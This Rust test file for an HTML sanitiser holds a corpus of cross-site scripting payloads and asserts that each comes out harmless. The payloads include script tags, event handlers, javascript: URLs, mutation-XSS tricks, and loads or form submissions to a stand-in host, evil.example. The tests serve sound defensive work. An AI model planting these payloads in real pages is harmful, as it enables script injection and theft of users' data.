//! Whatever HTML a message or a plugin brings: what is shown of it runs nothing and fetches nothing. Each way of asking for HTML
//! is tried with a corpus of attacks, and what comes out is read by a tokenizer, not searched for words.

mod harmless;

use super::{Cut, CutKind, CutKinds, Document, Span, harmless_html, text_as_html};
use harmless::assert_harmless;

/// In the corpus, what would run.
const CORPUS: &[&str] = &[
    "<script>run()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>run()</scr</script>ipt>",
    "<img src=x onerror=run()>",
    "<img src='cid:a' OnLoad = \"run()\" >",
    "<img/src=x/onerror=run()>",
    "<img src=`x` onerror=`run()`>",
    "<img src=\"x\u{0}\" onerror\u{0}=run()>",
    "<a href=javascript:run()>a</a>",
    "<a href=' \u{1}javascript:run()'>a</a>",
    "<a href='jav\tascript:run()'>a</a>",
    "<a href='java\nscript:run()'>a</a>",
    "<a href=&#106;&#97;vascript:run()>a</a>",
    "<a href=&#x6A&#x61vascript&colon;run()>a</a>",
    "<a href='JaVaScRiPt:run()'>a</a>",
    "<a href='vbscript:run()'>a</a>",
    "<a href='data:text/html,<script>run()</script>'>a</a>",
    "<a href='//evil.example/'>a</a>",
    "<a href='view-source:file:///etc/passwd'>a</a>",
    "<body onload=run()><p>a</p></body>",
    "<p style='background:url(https://evil.example/x)'>a</p>",
    "<p style='width:expression(run())'>a</p>",
    "<style>@import 'https://evil.example/x.css';</style><p>a</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'><a href='x'>a</a>",
    "<iframe src='javascript:run()'></iframe>",
    "<iframe srcdoc='<script>run()</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=password><button formaction='javascript:run()'>a</button></form>",
    "<isindex action=javascript:run() prompt=a>",
    "<svg onload=run()><script>run()</script><a xlink:href='javascript:run()'>a</a></svg>",
    "<svg><style><img src=x onerror=run()></style></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:run() /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=run()&gt;'>",
    "<math href='javascript:run()'>a</math>",
    "<noscript><p title='</noscript><img src=x onerror=run()>'>",
    "<textarea></textarea><script>run()</script>",
    "<title></title><img src=x onerror=run()>",
    "<template><script>run()</script></template>",
    "<!--><img src=x onerror=run()>-->",
    "<!--[if IE]><script>run()</script><![endif]-->",
    "<![CDATA[<script>run()</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>run()</x:script>",
    "<p title=\"a\" onmouseover=\"run()\" title='b'>a</p>",
    "<p \" onclick=run() \">a</p>",
    "<p/onclick=run()>a",
    "<details open ontoggle=run()>a</details>",
    "<video><source onerror=run()></video><audio src=x onerror=run()>",
    "<img srcset='https://evil.example/x 2x' src='https://evil.example/spy.png'>",
    "<table background='https://evil.example/x'><td background='https://evil.example/y'>a</td></table>",
    "<blockquote cite='javascript:run()'>a</blockquote>",
    "<xmp><img src=x onerror=run()></xmp><plaintext><script>run()</script>",
    "<select><option><style></option></select><img src=x onerror=run()></style>",
    "&lt;script&gt;run()&lt;/script&gt;<b>a</b>",
    "<div><p>a<</p><script\u{c}>run()</script\u{c}></div>",
    "<a href=\"https://example.com/\" ping=\"https://evil.example/\" target=_top>a</a>",
    "<img usemap='#m' src='cid:a'><map name=m><area href='javascript:run()'></map>",
    "<marquee onstart=run()>a</marquee><keygen autofocus onfocus=run()>",
];
#[test]
fn what_is_shown_runs_nothing_and_fetches_nothing() {
    for attack in CORPUS {
        let source = format!("<p>before</p>{attack}<p>after</p>");
        assert_harmless(attack, &harmless_html(attack));
        assert_harmless(attack, &text_as_html(attack));
        let document = Document::from_html(&source);
        assert_harmless(attack, &document.html_view(&[], CutKinds::NONE));
        let length = document.text().len();
        // Wherever a cut begins and ends, and whatever stands in its place.
        for start in (0..length).filter(|at| document.text().is_char_boundary(*at)) {
            let cut = Cut {
                span: Span::new(start, length),
                kind: CutKind::Quote,
                rule: String::new(),
                step: String::new(),
                replacement: Some((*attack).to_owned()),
            };
            let view = document.view(std::slice::from_ref(&cut), CutKinds::ALL);
            assert_harmless(attack, &document.html_view(&[cut], CutKinds::ALL));
            let whole = Span::new(0, view.text().len());
            assert_harmless(attack, &document.html_piece(&view, whole));
        }
        let plain = Document::from_plain(attack);
        assert_harmless(attack, &plain.html_view(&[], CutKinds::NONE));
    }
}

#[test]
fn the_check_finds_what_it_looks_for() {
    for shown in
        ["<script>", "<p onclick=x>", "<a href='javascript:x'>", "<img src='https://evil.example/x'>", "<p style=x>"]
    {
        assert!(std::panic::catch_unwind(|| assert_harmless("", shown)).is_err(), "{shown}");
    }
    assert_harmless(
        "",
        "<p>a <a href=\"https://example.com/\" rel=\"noopener noreferrer nofollow\">b</a><img src=\"cid:a\"></p>",
    );
}
